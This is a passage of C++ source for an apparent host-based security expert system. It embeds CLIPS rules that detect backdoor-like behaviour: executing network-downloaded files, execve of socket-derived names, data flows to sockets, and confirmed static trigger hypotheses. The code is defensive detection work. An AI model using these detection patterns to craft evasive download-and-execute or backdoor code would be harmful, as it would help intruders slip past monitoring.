       << "    (if ?tgt-hard then\n"
       << "      (printout t ?*TAB* \"target name was hardcoded in: (\"\n"
       << "                (implode$ ?tgt-hard-l) \")\" crlf))\n"
       << "    (if ?tgt-remote then\n"
       << "      (printout t ?*TAB*\n"
       << "                \"target name originated from a socket: (\"\n"
       << "                (implode$ ?tgt-remote-l) \")\" crlf))\n"
       << "    (if ?srv-hard then\n"
       << "      (printout t ?*TAB*\n"
       << "        \"This program has opened a socket for remote \"\n"
       << "        \"connections. i.e. it is a server with the \"\n"
       << "        \"address: \" ?srvname crlf ?*TAB*\n"
       << "        \"the server address was hardcoded in: (\"\n"
       << "        (implode$ ?srv-hard-l) \")\" crlf))\n"
       << "    (if (and (< ?freq ?*RARE_FREQUENCY*)\n"
       << "             (> ?time ?*LONG_TIME*)) then\n"
       << "      (printout t ?*TAB* \"This code is rarely executed...\"\n"
       << "                crlf))\n"
       << "    (hth-warn ?warning \"" << rule_name << "\" ?pid\n"
       << "      (str-cat \"Found Write call Data Flowing From: \"\n"
       << "               ?sname \" To: \" ?tname))))\n";
    return os.str();
}

} // namespace

const std::string &
policyRules()
{
    static const std::string rules = [] {
        std::ostringstream os;

        //
        // Execution flow (§4.1 / Appendix A.2).
        //
        os << R"CLP(
(defrule check_execve "check execve (paper App. A.2)"
  ?execve <- (system_call_access
               (pid ?pid)
               (system_call_name ?sys_name)
               (resource_name $?name)
               (resource_type $?type)
               (resource_origin_name $?origin_name)
               (resource_origin_type $?origin_type)
               (time ?time)
               (frequency ?freq)
               (address ?addr))
  ?resolution <- (resolution (status RESOLVE))
  (system_call_name (name ?sys_name))
  (test (eq ?sys_name SYS_execve))
  (test (or (not (empty-list
                   (filter_binary $?origin_type $?origin_name)))
            (not (empty-list
                   (filter_socket $?origin_type $?origin_name)))))
  =>
  (bind ?suspicous_binaries
        (filter_binary $?origin_type $?origin_name))
  (bind ?suspicous_sockets
        (filter_socket $?origin_type $?origin_name))
  (bind ?warning 1)
  (if (and (< ?freq ?*RARE_FREQUENCY*) (> ?time ?*LONG_TIME*)) then
    (bind ?warning 2))
  (if (not (empty-list ?suspicous_sockets)) then
    (bind ?warning 3))
  (print-warning ?warning)
  (printout t "Found " ?sys_name " call (\"" (implode$ ?name) "\")"
            crlf)
  (if (not (empty-list ?suspicous_binaries)) then
    (printout t ?*TAB* "(\"" (implode$ ?name)
              "\") originated from (\""
              (implode$ ?suspicous_binaries) "\")" crlf)
   else
    (printout t ?*TAB* "(\"" (implode$ ?name)
              "\") originated from (\""
              (implode$ ?suspicous_sockets) "\")" crlf))
  (if (and (< ?freq ?*RARE_FREQUENCY*) (> ?time ?*LONG_TIME*)) then
    (printout t ?*TAB* "This code is rarely executed..." crlf))
  (hth-warn ?warning "check_execve" ?pid
    (str-cat "Found SYS_execve call (" (implode$ ?name)
             ") originated from ("
             (implode$ ?suspicous_binaries)
             (implode$ ?suspicous_sockets) ")"))
  (retract ?execve ?resolution)
  (assert (resolution (status STOP))))

;;; ---- Resource abuse (section 4.2) ---------------------------------
(defrule count_clone "process creation accounting"
  (declare (salience 10))
  ?e <- (system_call_access (pid ?pid) (system_call_name ?sys)
                            (process_create TRUE) (abs_time ?t))
  ?s <- (clone_stats (count ?c) (window_start ?ws) (window_count ?wc))
  =>
  (bind ?nc (+ ?c 1))
  (bind ?nws ?ws)
  (bind ?nwc (+ ?wc 1))
  (if (> (- ?t ?ws) ?*RATE_WINDOW*) then
    (bind ?nws ?t)
    (bind ?nwc 1))
  (retract ?e ?s)
  (assert (clone_stats (count ?nc) (window_start ?nws)
                       (window_count ?nwc)))
  (if (> ?nwc ?*RATE_MAX*) then
    (print-warning 2)
    (printout t "Found several " ?sys " calls" crlf ?*TAB*
              "This call was very frequent in a short period of time"
              crlf)
    (hth-warn 2 "resource_abuse_rate" ?pid
      (str-cat "Found several " ?sys
               " calls; very frequent in a short period of time"))
   else
    (if (> ?nc ?*MAX_PROCESSES*) then
      (print-warning 1)
      (printout t "Found several " ?sys " calls" crlf ?*TAB*
                "This call was frequent" crlf)
      (hth-warn 1 "resource_abuse_count" ?pid
        (str-cat "Found several " ?sys
                 " calls; this call was frequent")))))

;;; ---- Memory abuse (section 10 extension 4) -------------------------
(defrule count_memory "heap allocation accounting"
  (declare (salience 10))
  ?e <- (system_call_access (pid ?pid) (system_call_name SYS_brk)
                            (amount ?a))
  ?s <- (mem_stats (growth ?g))
  =>
  (bind ?ng (+ ?g ?a))
  (retract ?e ?s)
  (assert (mem_stats (growth ?ng)))
  (if (and (> ?ng ?*MAX_HEAP_GROWTH*) (<= ?g ?*MAX_HEAP_GROWTH*)) then
    (print-warning 1)
    (printout t "Allocating a large amount of memory ("
              ?ng " bytes)" crlf)
    (hth-warn 1 "resource_abuse_memory" ?pid
      (str-cat "allocated " ?ng " bytes of heap"))))

;;; ---- Cross-session downloaded files (section 10, 5 and 6) ----------
(defrule note_download "remember files written with network data"
  (declare (salience 15))
  (system_call_io (direction WRITE) (source_type SOCKET)
                  (target_type FILE) (target_name ?f))
  (not (downloaded_file (name ?f)))
  =>
  (assert (downloaded_file (name ?f))))

(defrule exec_downloaded "executing a previously downloaded file"
  (declare (salience 20))
  (system_call_access (pid ?pid) (system_call_name SYS_execve)
                      (resource_name $?name))
  (downloaded_file (name ?f))
  (test (neq (member$ ?f $?name) FALSE))
  =>
  (print-warning 3)
  (printout t "Found SYS_execve of a file previously downloaded "
            "from the network: " ?f crlf)
  (hth-warn 3 "exec_downloaded" ?pid
    (str-cat "executing downloaded file " ?f)))

;;; ---- Hybrid static + dynamic (static pre-screening pass) -----------
;;; A magic-byte guard found statically is only suspicious once the
;;; program actually starts reading from the network: the dormant
;;; backdoor is now one received byte away from its trigger. Neither
;;; half warns on its own.
(defrule static_backdoor_guard
  "statically flagged magic-byte guard + live network read"
  (declare (salience 5))
  (static_finding (image ?img) (kind MAGIC_GUARD) (level ?lvl)
                  (address ?addr) (detail ?detail))
  (system_call_io (pid ?pid) (binary ?img) (direction READ)
                  (source_type SOCKET))
  (not (static_warned (image ?img) (kind MAGIC_GUARD)))
  (test (>= ?lvl 2))
  =>
  (assert (static_warned (image ?img) (kind MAGIC_GUARD)))
  (print-warning 2)
  (printout t "Statically flagged magic-byte guard in " ?img
            " is now reading from the network" crlf
            ?*TAB* ?detail crlf)
  (hth-warn 2 "static_backdoor_guard" ?pid
    (str-cat "statically flagged guard at " ?addr " in " ?img
             " combined with a live network read")))

;;; A synthesized trigger hypothesis says: *these exact input bytes*
;;; make the program exec a dormant payload. If the program then
;;; really does execve, the hypothesis has been borne out — the
;;; dormant path is live. High-severity warn, once per image.
(defrule static_trigger_confirmed
  "synthesized trigger for an exec payload + live execve"
  (declare (salience 5))
  (static_finding (image ?img) (kind TRIGGER_HYPOTHESIS)
                  (level ?lvl) (address ?addr)
                  (syscall SYS_execve) (witness ?wit)
                  (detail ?detail))
  (system_call_access (pid ?pid) (binary ?img)
                      (system_call_name SYS_execve))
  (not (static_warned (image ?img) (kind TRIGGER_HYPOTHESIS)))
  (test (>= ?lvl 2))
  =>
  (assert (static_warned (image ?img) (kind TRIGGER_HYPOTHESIS)))
  (print-warning 3)
  (printout t "Synthesized trigger for " ?img
            " confirmed by a live exec" crlf
            ?*TAB* "witness bytes (hex): " ?wit crlf
            ?*TAB* ?detail crlf)
  (hth-warn 3 "static_trigger_confirmed" ?pid
    (str-cat "trigger hypothesis at " ?addr " in " ?img
             " confirmed by live execve (witness " ?wit ")")))

;;; Passive corroboration: a statically traced input-to-sink taint
;;; path whose program is now observed writing tainted data. No warn
;;; of its own — the dynamic io rules own the verdict — but note the
;;; agreement in the transcript for the operator.
(defrule static_taint_corroborated
  "static taint path + live tainted write from the same image"
  (declare (salience -5))
  (static_finding (image ?img) (kind TAINT_PATH) (level ?lvl)
                  (address ?addr) (syscall ?sys))
  (system_call_io (pid ?pid) (binary ?img) (direction WRITE))
  (not (static_warned (image ?img) (kind TAINT_PATH)))
  (test (>= ?lvl 2))
  =>
  (assert (static_warned (image ?img) (kind TAINT_PATH)))
  (printout t "Static taint path at " ?addr " (" ?sys ") in "
            ?img " corroborated by live io" crlf))

;;; ---- Statistical anomaly joins (GrayMatter-style baselines) --------
;;; Strongest hybrid verdict: the scorer says this run's telemetry
;;; deviates from the clean baseline AND the static pass synthesized
;;; a trigger hypothesis for the same workload. Statistical evidence
;;; confirms the dormant path is live even when no dynamic rule saw
;;; the payload — escalate to High.
(defrule anomaly_confirms_static
  "behavioral anomaly + synthesized trigger hypothesis"
  (declare (salience 6))
  (behavioral_anomaly (run ?run) (baseline ?base) (score ?score)
                      (maxz ?maxz) (top ?top))
  (static_finding (image ?img) (kind TRIGGER_HYPOTHESIS)
                  (level ?lvl) (address ?addr))
  (not (anomaly_warned (run ?run)))
  (test (>= ?lvl 2))
  =>
  (assert (anomaly_warned (run ?run)))
  (print-warning 3)
  (printout t "Run " ?run " deviates from clean baseline " ?base
            " (score " ?score ", worst metric " ?top ")" crlf
            ?*TAB* "and " ?img
            " carries a synthesized trigger hypothesis at "
            ?addr crlf)
  (hth-warn 3 "anomaly_confirms_static" 0
    (str-cat "behavioral anomaly (score " ?score ", worst " ?top
             ") confirms trigger hypothesis at " ?addr
             " in " ?img)))

;;; Statistical evidence alone: the run deviates but no symbolic
;;; finding corroborates it. Medium — enough to surface a trojan
;;; whose trigger logic is invisible to the static model (e.g. a
;;; guard relating two input bytes) and whose payload fires no
;;; dynamic rule.
(defrule behavioral_anomaly_alert
  "behavioral anomaly without symbolic corroboration"
  (declare (salience 4))
  (behavioral_anomaly (run ?run) (baseline ?base) (score ?score)
                      (maxz ?maxz) (novel ?novel) (top ?top))
  (not (anomaly_warned (run ?run)))
  =>
  (assert (anomaly_warned (run ?run)))
  (print-warning 2)
  (printout t "Run " ?run " deviates from clean baseline " ?base
            crlf ?*TAB* "score " ?score ", max z " ?maxz
            ", novel metrics " ?novel ", worst metric " ?top crlf)
  (hth-warn 2 "behavioral_anomaly_alert" 0
    (str-cat "telemetry deviates from baseline " ?base
             " (score " ?score ", max z " ?maxz
             ", worst " ?top ")")))

;;; ---- Information flow (section 4.3) --------------------------------
)CLP";

        for (const IoFamily &family : IO_FAMILIES)
            os << makeIoRule(family) << "\n";
        return os.str();
    }();
    return rules;
}

} // namespace hth::secpert
