/**
 * @file
 * Secpert: the security expert system (paper §6).
 *
 * Embeds the CLIPS engine, loads the HTH policy, converts Harrier's
 * events into facts, runs the inference engine on each event and
 * collects the warnings the rules raise. Mirrors the paper's
 * embedding: events are asserted one at a time together with a
 * `(resolution (status RESOLVE))` fact; rules consume them and may
 * assert a STOP resolution.
 */

#ifndef HTH_SECPERT_SECPERT_HH
#define HTH_SECPERT_SECPERT_HH

#include <set>
#include <sstream>
#include <string>
#include <vector>

#include "anomaly/Scorer.hh"
#include "clips/Environment.hh"
#include "harrier/Event.hh"
#include "obs/Provenance.hh"
#include "secpert/Policy.hh"
#include "secpert/Warning.hh"

namespace hth::obs
{
class FlightRecorder;
class SpanTracer;
} // namespace hth::obs

namespace hth::secpert
{

/** Expert-system statistics (performance evaluation §9). */
struct SecpertStats
{
    uint64_t eventsAnalyzed = 0;
    uint64_t rulesFired = 0;
    uint64_t warningsSuppressed = 0;
    uint64_t staticFindings = 0;
};

/**
 * One static pre-screening finding Secpert accepted (untrusted
 * image, not a duplicate). Also asserted as a persistent
 * `static_finding` fact so hybrid rules can join it with dynamic
 * events.
 */
struct StaticFinding
{
    std::string image;      //!< image path
    std::string kind;       //!< "MAGIC_GUARD", ...
    int level = 0;          //!< 0 info, 1 low, 2 medium, 3 high
    uint32_t address = 0;   //!< image-relative site
    std::string syscall;
    std::string resource;
    std::string detail;
    std::string witness;    //!< raw synthesized trigger bytes
};

/** The security expert. */
class Secpert : public harrier::EventSink
{
  public:
    explicit Secpert(PolicyConfig config = {});

    /** @name harrier::EventSink @{ */
    void onResourceAccess(const harrier::ResourceAccessEvent &ev)
        override;
    void onResourceIo(const harrier::ResourceIoEvent &ev) override;
    void onStaticFinding(const harrier::StaticFindingEvent &ev)
        override;
    /** @} */

    /** Warnings raised so far, in order. */
    const std::vector<Warning> &warnings() const { return warnings_; }

    /** Accepted static pre-screening findings (untrusted images). */
    const std::vector<StaticFinding> &
    staticFindings() const
    {
        return staticFindings_;
    }

    /** The paper-style textual output of the fired rules. */
    std::string transcript() const { return out_.str(); }

    /** The embedded CLIPS environment (rules, globals, facts). */
    clips::Environment &env() { return env_; }

    const PolicyConfig &config() const { return config_; }
    const SecpertStats &stats() const { return stats_; }

    /** Attribute CLIPS match/fire time to @p profiler. */
    void setProfiler(obs::PhaseProfiler *profiler)
    {
        env_.setProfiler(profiler);
    }

    /** Record a clips_pump span per analyzed event (null detaches). */
    void setSpanTracer(obs::SpanTracer *tracer)
    {
        spanTracer_ = tracer;
    }

    /**
     * Stream one-line notes about events ('E'), rule fires ('F'),
     * warnings ('W') and anomalies ('A') into @p flight so a
     * High-severity verdict or a worker fault can dump the last-N
     * window. Null detaches.
     */
    void setFlightRecorder(obs::FlightRecorder *flight)
    {
        flight_ = flight;
    }

    /**
     * Assemble the evidence graph behind every warning raised so
     * far: warning -> recorded FireRecord -> matched facts ->
     * the event / origin / static-finding / anomaly data the facts
     * carry. Event facts are retracted after each pump but persist
     * in the fact store with readable slots, so the chain is
     * reconstructed exactly, not approximated.
     */
    obs::ProvenanceGraph buildProvenance() const;

    /** Load additional user rules into the policy. */
    void loadRules(const std::string &clips_source);

    /**
     * Feed a statistical verdict from the anomaly scorer into the
     * rule base: asserts a persistent `behavioral_anomaly` fact and
     * runs the engine so hybrid rules can join it with symbolic
     * evidence (static findings, abuse counters). Only anomalous
     * scores should be fed in; sub-threshold runs assert nothing.
     */
    void noteAnomaly(const std::string &run,
                     const anomaly::AnomalyScore &score);

    /**
     * User feedback (§10 extension 8): acknowledge a class of
     * warnings as expected behaviour. Future warnings whose rule
     * name contains @p rule_substring *and* whose message contains
     * @p message_substring are suppressed (counted in stats).
     */
    void suppress(const std::string &rule_substring,
                  const std::string &message_substring = "");

    /**
     * Serialise the cross-session memory (§10 extension 6: "We will
     * need to save all the information between two consecutive
     * executions"): the downloaded-file facts and the abuse
     * counters, as CLIPS fact text loadable by importMemory().
     */
    std::string exportMemory() const;

    /** Restore memory previously produced by exportMemory(). */
    void importMemory(const std::string &fact_text);

    /** Drop warnings and per-run facts; keep the rule base. */
    void reset();

  private:
    void installNatives();
    void applyThresholds();
    void runEngine();

    /** Multifield of origin names / types (parallel lists). */
    static clips::Value originNames(
        const std::vector<harrier::OriginRef> &origins);
    static clips::Value originTypes(
        const std::vector<harrier::OriginRef> &origins);

    bool trustedBinary(const std::string &name) const;
    bool trustedSocket(const std::string &name) const;

    /** Expand one event fact into provenance event+origin nodes. */
    void provenanceFromFact(obs::ProvenanceGraph &graph,
                            const std::string &fact_node_id,
                            const clips::Fact &fact) const;

    PolicyConfig config_;
    clips::Environment env_;
    std::ostringstream out_;
    std::vector<Warning> warnings_;
    /** Per warning: index into env_.fireTrace() of the firing whose
     * RHS raised it, or SIZE_MAX when raised outside a fire. */
    std::vector<size_t> warningFires_;
    /** Per warning: copies of the raising fire's matched facts,
     * taken while the RHS runs. Event facts are retracted (slot
     * storage released) after each pump, so warn time is the only
     * moment the evidence is still readable. Warnings are rare, so
     * the copies stay off the hot path. */
    std::vector<std::vector<clips::Fact>> warningFacts_;
    std::vector<StaticFinding> staticFindings_;
    std::set<std::string> staticFindingKeys_;   //!< dedup
    std::vector<std::pair<std::string, std::string>> suppressions_;
    SecpertStats stats_;
    obs::SpanTracer *spanTracer_ = nullptr;
    obs::FlightRecorder *flight_ = nullptr;
    /** fireTrace() entries already noted into the flight recorder. */
    size_t flightFireMark_ = 0;
    /** Virtual time of the event being pumped (flight timestamps). */
    uint64_t lastEventTime_ = 0;
};

} // namespace hth::secpert

#endif // HTH_SECPERT_SECPERT_HH
