#include "secpert/Secpert.hh"

#include "obs/Flight.hh"
#include "obs/Span.hh"
#include "support/Logging.hh"

namespace hth::secpert
{

using clips::Value;
using harrier::OriginRef;
using taint::SourceType;

const char *
severityName(Severity severity)
{
    switch (severity) {
      case Severity::Low: return "LOW";
      case Severity::Medium: return "MEDIUM";
      case Severity::High: return "HIGH";
    }
    return "?";
}

Severity
maxSeverity(const std::vector<Warning> &warnings)
{
    Severity max = Severity::Low;
    for (const Warning &w : warnings)
        if ((int)w.severity > (int)max)
            max = w.severity;
    return max;
}

Secpert::Secpert(PolicyConfig config) : config_(std::move(config))
{
    if (config_.naiveMatcher)
        env_.setMatchStrategy(clips::MatchStrategy::Naive);
    else if (config_.matcher == PolicyConfig::Matcher::DirtyRescan)
        env_.setMatchStrategy(clips::MatchStrategy::DirtyRescan);
    else if (config_.matcher == PolicyConfig::Matcher::Naive)
        env_.setMatchStrategy(clips::MatchStrategy::Naive);
    // Matcher::Rete is the Environment default.
    env_.setOutput(&out_);
    installNatives();
    env_.loadString(policyDeclarations());
    env_.loadString(policyRules());
    applyThresholds();
}

void
Secpert::applyThresholds()
{
    env_.setGlobal("RARE_FREQUENCY",
                   Value::integer(config_.rareFrequency));
    env_.setGlobal("LONG_TIME", Value::integer(config_.longTime));
    env_.setGlobal("MAX_PROCESSES",
                   Value::integer(config_.maxProcesses));
    env_.setGlobal("RATE_WINDOW", Value::integer(config_.rateWindow));
    env_.setGlobal("RATE_MAX", Value::integer(config_.rateMax));
    env_.setGlobal("MAX_HEAP_GROWTH",
                   Value::integer(config_.maxHeapGrowth));
}

bool
Secpert::trustedBinary(const std::string &name) const
{
    for (const std::string &pattern : config_.trustedBinaries)
        if (name.find(pattern) != std::string::npos)
            return true;
    return false;
}

bool
Secpert::trustedSocket(const std::string &name) const
{
    for (const std::string &pattern : config_.trustedSockets)
        if (name.find(pattern) != std::string::npos)
            return true;
    return false;
}

void
Secpert::installNatives()
{
    // (filter_binary $?types $?names) -> untrusted BINARY names.
    env_.registerFunction(
        "filter_binary",
        [this](clips::Environment &, std::vector<Value> &args) {
            fatalIf(args.size() != 2, "filter_binary: expected 2 args");
            std::vector<Value> suspicious;
            const auto &types = args[0].items();
            const auto &names = args[1].items();
            for (size_t i = 0; i < types.size() && i < names.size();
                 ++i) {
                if (types[i] == Value::sym("BINARY") &&
                    !trustedBinary(names[i].text()))
                    suspicious.push_back(names[i]);
            }
            return Value::multi(std::move(suspicious));
        });

    // (filter_socket $?types $?names) -> untrusted SOCKET names.
    env_.registerFunction(
        "filter_socket",
        [this](clips::Environment &, std::vector<Value> &args) {
            fatalIf(args.size() != 2, "filter_socket: expected 2 args");
            std::vector<Value> suspicious;
            const auto &types = args[0].items();
            const auto &names = args[1].items();
            for (size_t i = 0; i < types.size() && i < names.size();
                 ++i) {
                if (types[i] == Value::sym("SOCKET") &&
                    !trustedSocket(names[i].text()))
                    suspicious.push_back(names[i]);
            }
            return Value::multi(std::move(suspicious));
        });

    // (print-warning <level>) -> "Warning [LOW] " prefix.
    env_.registerFunction(
        "print-warning",
        [this](clips::Environment &, std::vector<Value> &args) {
            fatalIf(args.size() != 1, "print-warning: expected 1 arg");
            out_ << "Warning ["
                 << severityName((Severity)args[0].intValue()) << "] ";
            return Value::boolean(true);
        });

    // (hth-warn <level> <rule> <pid> <message>) -> record Warning.
    env_.registerFunction(
        "hth-warn",
        [this](clips::Environment &, std::vector<Value> &args) {
            fatalIf(args.size() != 4, "hth-warn: expected 4 args");
            Warning w;
            w.severity = (Severity)args[0].intValue();
            w.rule = args[1].text();
            w.pid = (int)args[2].intValue();
            w.message = args[3].text();
            // User feedback (§10 extension 8): warnings the user has
            // acknowledged as expected behaviour are suppressed.
            for (const auto &[rule, message] : suppressions_) {
                if (w.rule.find(rule) != std::string::npos &&
                    w.message.find(message) != std::string::npos) {
                    ++stats_.warningsSuppressed;
                    return Value::boolean(false);
                }
            }
            if (flight_)
                flight_->note(lastEventTime_, 'W',
                              std::string(severityName(w.severity)) +
                                  " " + w.rule + ": " + w.message);
            // The engine pushes the FireRecord before evaluating the
            // RHS, so while hth-warn runs the last trace entry IS the
            // firing that raised this warning — remember it so
            // buildProvenance() can walk warning -> fire -> facts.
            warningFires_.push_back(env_.fireTrace().empty()
                                        ? SIZE_MAX
                                        : env_.fireTrace().size() - 1);
            // Copy the matched facts while they are still live:
            // retract() releases slot storage, so by report time the
            // fire's evidence would be unreadable.
            std::vector<clips::Fact> snapshot;
            if (!env_.fireTrace().empty()) {
                for (clips::FactId id :
                     env_.fireTrace().back().facts)
                    if (const clips::Fact *f = env_.fact(id))
                        snapshot.push_back(*f);
            }
            warningFacts_.push_back(std::move(snapshot));
            warnings_.push_back(std::move(w));
            return Value::boolean(true);
        });
}

Value
Secpert::originNames(const std::vector<OriginRef> &origins)
{
    std::vector<Value> out;
    out.reserve(origins.size());
    for (const OriginRef &ref : origins)
        out.push_back(Value::str(ref.name));
    return Value::multi(std::move(out));
}

Value
Secpert::originTypes(const std::vector<OriginRef> &origins)
{
    std::vector<Value> out;
    out.reserve(origins.size());
    for (const OriginRef &ref : origins)
        out.push_back(Value::sym(sourceTypeName(ref.type)));
    return Value::multi(std::move(out));
}

void
Secpert::runEngine()
{
    obs::SpanScope pump(spanTracer_, obs::SpanId::ClipsPump);
    ++stats_.eventsAnalyzed;
    stats_.rulesFired += (uint64_t)env_.run();
    if (flight_) {
        const auto &trace = env_.fireTrace();
        for (; flightFireMark_ < trace.size(); ++flightFireMark_)
            flight_->note(lastEventTime_, 'F',
                          trace[flightFireMark_].rule);
    }
    // Events are one-shot: drop whatever the rules did not consume.
    for (const char *tmpl :
         {"system_call_access", "system_call_io", "resolution"}) {
        // The template index shrinks as we retract; re-read it.
        const auto &live = env_.factsByTemplate(tmpl);
        while (!live.empty())
            env_.retract(live.back()->id);
    }
}

void
Secpert::onStaticFinding(const harrier::StaticFindingEvent &ev)
{
    // The static pass screens everything the loader maps, including
    // the simulated libc; findings about trusted binaries are noise.
    if (trustedBinary(ev.imagePath))
        return;
    std::string key = ev.imagePath + "\x1f" + ev.kind + "\x1f" +
                      std::to_string(ev.address);
    if (!staticFindingKeys_.insert(key).second)
        return;
    ++stats_.staticFindings;

    StaticFinding f;
    f.image = ev.imagePath;
    f.kind = ev.kind;
    f.level = ev.level;
    f.address = ev.address;
    f.syscall = ev.syscall;
    f.resource = ev.resource;
    f.detail = ev.detail;
    f.witness.assign(ev.witness.begin(), ev.witness.end());
    staticFindings_.push_back(f);

    // Witness bytes go into the fact hex-encoded so the policy side
    // stays printable regardless of what the solver synthesized.
    std::string witnessHex;
    for (uint8_t b : ev.witness) {
        static const char *digits = "0123456789abcdef";
        witnessHex.push_back(digits[b >> 4]);
        witnessHex.push_back(digits[b & 0xf]);
    }

    // Assert a persistent fact; unlike dynamic events it survives
    // runEngine()'s retraction sweep, so rules can later combine it
    // with run-time evidence. No resolution fact is asserted and the
    // engine is not run: a static finding alone never warns.
    env_.assertFact(
        "static_finding",
        {
            {"image", Value::str(f.image)},
            {"kind", Value::sym(f.kind)},
            {"level", Value::integer(f.level)},
            {"address", Value::integer((int64_t)f.address)},
            {"syscall",
             f.syscall.empty() ? Value::sym("NONE")
                               : Value::sym(f.syscall)},
            {"resource", Value::str(f.resource)},
            {"detail", Value::str(f.detail)},
            {"witness", Value::str(witnessHex)},
        });
}

void
Secpert::onResourceAccess(const harrier::ResourceAccessEvent &ev)
{
    lastEventTime_ = ev.ctx.absTime;
    if (flight_)
        flight_->note(ev.ctx.absTime, 'E',
                      ev.syscall + " " + ev.resName);
    env_.assertFact(
        "system_call_access",
        {
            {"pid", Value::integer(ev.ctx.pid)},
            {"binary", Value::str(ev.ctx.binaryPath)},
            {"system_call_name", Value::sym(ev.syscall)},
            {"resource_name", Value::str(ev.resName)},
            {"resource_type",
             Value::sym(sourceTypeName(ev.resType))},
            {"resource_origin_name", originNames(ev.origins)},
            {"resource_origin_type", originTypes(ev.origins)},
            {"time", Value::integer((int64_t)ev.ctx.time)},
            {"abs_time", Value::integer((int64_t)ev.ctx.absTime)},
            {"frequency", Value::integer((int64_t)ev.ctx.frequency)},
            {"address", Value::str(std::to_string(ev.ctx.address))},
            {"process_create", Value::boolean(ev.isProcessCreate)},
            {"amount", Value::integer((int64_t)ev.amount)},
        });
    env_.assertFact("resolution", {{"status", Value::sym("RESOLVE")}});
    runEngine();
}

void
Secpert::onResourceIo(const harrier::ResourceIoEvent &ev)
{
    lastEventTime_ = ev.ctx.absTime;
    if (flight_)
        flight_->note(ev.ctx.absTime, 'E',
                      ev.syscall +
                          (ev.isWrite ? " WRITE " : " READ ") +
                          ev.source.name + " -> " + ev.targetName);
    env_.assertFact(
        "system_call_io",
        {
            {"pid", Value::integer(ev.ctx.pid)},
            {"binary", Value::str(ev.ctx.binaryPath)},
            {"system_call_name", Value::sym(ev.syscall)},
            {"direction", Value::sym(ev.isWrite ? "WRITE" : "READ")},
            {"source_name", Value::str(ev.source.name)},
            {"source_type",
             Value::sym(sourceTypeName(ev.source.type))},
            {"source_origin_name", originNames(ev.sourceOrigins)},
            {"source_origin_type", originTypes(ev.sourceOrigins)},
            {"target_name", Value::str(ev.targetName)},
            {"target_type",
             Value::sym(sourceTypeName(ev.targetType))},
            {"target_origin_name", originNames(ev.targetOrigins)},
            {"target_origin_type", originTypes(ev.targetOrigins)},
            {"via_server", Value::boolean(ev.viaServer)},
            {"server_name", Value::str(ev.serverName)},
            {"server_origin_name", originNames(ev.serverOrigins)},
            {"server_origin_type", originTypes(ev.serverOrigins)},
            {"time", Value::integer((int64_t)ev.ctx.time)},
            {"abs_time", Value::integer((int64_t)ev.ctx.absTime)},
            {"frequency", Value::integer((int64_t)ev.ctx.frequency)},
            {"address", Value::str(std::to_string(ev.ctx.address))},
        });
    env_.assertFact("resolution", {{"status", Value::sym("RESOLVE")}});
    runEngine();
}

void
Secpert::loadRules(const std::string &clips_source)
{
    env_.loadString(clips_source);
}

void
Secpert::noteAnomaly(const std::string &run,
                     const anomaly::AnomalyScore &score)
{
    if (flight_)
        flight_->note(lastEventTime_, 'A',
                      run + " score " +
                          std::to_string(score.aggregate));
    env_.assertFact(
        "behavioral_anomaly",
        {
            {"run", Value::str(run)},
            {"baseline", Value::str(score.baselineName)},
            {"score", Value::real(score.aggregate)},
            {"maxz", Value::real(score.maxZ)},
            {"novel", Value::integer((int64_t)score.novelMetrics)},
            {"top", Value::str(score.top.empty()
                                   ? ""
                                   : score.top.front().metric)},
        });
    runEngine();
}

void
Secpert::suppress(const std::string &rule_substring,
                  const std::string &message_substring)
{
    suppressions_.emplace_back(rule_substring, message_substring);
}

std::string
Secpert::exportMemory() const
{
    std::string out;
    for (const char *tmpl : {"downloaded_file", "clone_stats",
                             "mem_stats"}) {
        for (const clips::Fact *f : env_.factsByTemplate(tmpl)) {
            out += f->toString();
            out += "\n";
        }
    }
    return out;
}

void
Secpert::importMemory(const std::string &fact_text)
{
    // Replace the counter facts the declarations asserted so the
    // imported ones are authoritative.
    for (const char *tmpl : {"clone_stats", "mem_stats"}) {
        bool imported =
            fact_text.find(std::string("(") + tmpl) !=
            std::string::npos;
        if (!imported)
            continue;
        const auto &existing = env_.factsByTemplate(tmpl);
        while (!existing.empty())
            env_.retract(existing.back()->id);
    }
    for (const clips::Sexpr &form : clips::parseSexprs(fact_text)) {
        clips::Bindings binds;
        (void)binds;
        env_.assertString(form.toString());
    }
}

obs::ProvenanceGraph
Secpert::buildProvenance() const
{
    obs::ProvenanceGraph graph;
    const std::vector<clips::FireRecord> &trace = env_.fireTrace();
    for (size_t i = 0; i < warnings_.size(); ++i) {
        const Warning &w = warnings_[i];
        std::string wid = "warning:" + std::to_string(i);
        obs::ProvNode &wn = graph.node(wid, "warning");
        obs::ProvenanceGraph::attr(wn, "severity",
                                   severityName(w.severity));
        obs::ProvenanceGraph::attr(wn, "rule", w.rule);
        obs::ProvenanceGraph::attr(wn, "pid",
                                   std::to_string(w.pid));
        obs::ProvenanceGraph::attr(wn, "message", w.message);

        size_t fi =
            i < warningFires_.size() ? warningFires_[i] : SIZE_MAX;
        if (fi >= trace.size())
            continue;   // raised outside a fire (direct eval)
        const clips::FireRecord &fire = trace[fi];
        std::string fid = "fire:" + std::to_string(fi);
        obs::ProvNode &fn = graph.node(fid, "fire");
        obs::ProvenanceGraph::attr(fn, "rule", fire.rule);
        graph.edge(wid, fid, "fired_by");

        const std::vector<clips::Fact> *snapshot =
            i < warningFacts_.size() ? &warningFacts_[i] : nullptr;
        for (clips::FactId factId : fire.facts) {
            std::string nid = "fact:" + std::to_string(factId);
            const clips::Fact *f = env_.fact(factId);
            if (!f && snapshot) {
                // Retracted since the warning fired: fall back to
                // the copy taken while the RHS ran.
                for (const clips::Fact &s : *snapshot)
                    if (s.id == factId) {
                        f = &s;
                        break;
                    }
            }
            obs::ProvNode &fact = graph.node(nid, "fact");
            obs::ProvenanceGraph::attr(fact, "fact",
                                       std::to_string(factId));
            if (f) {
                obs::ProvenanceGraph::attr(fact, "template",
                                           f->tmpl->name);
                obs::ProvenanceGraph::attr(fact, "text",
                                           f->toString());
            }
            graph.edge(fid, nid, "matched");
            if (f)
                provenanceFromFact(graph, nid, *f);
        }
    }
    return graph;
}

void
Secpert::provenanceFromFact(obs::ProvenanceGraph &graph,
                            const std::string &fact_node_id,
                            const clips::Fact &f) const
{
    using Graph = obs::ProvenanceGraph;
    const std::string &tmpl = f.tmpl->name;
    auto text = [&](const char *slot) { return f.slot(slot).text(); };
    auto num = [&](const char *slot) {
        return std::to_string(f.slot(slot).intValue());
    };
    // Parallel origin multislots -> one origin node per entry.
    // SOCKET-typed provenance is classed REMOTE: the name or the
    // bytes came off the network; everything else is LOCAL.
    auto origins = [&](const std::string &from,
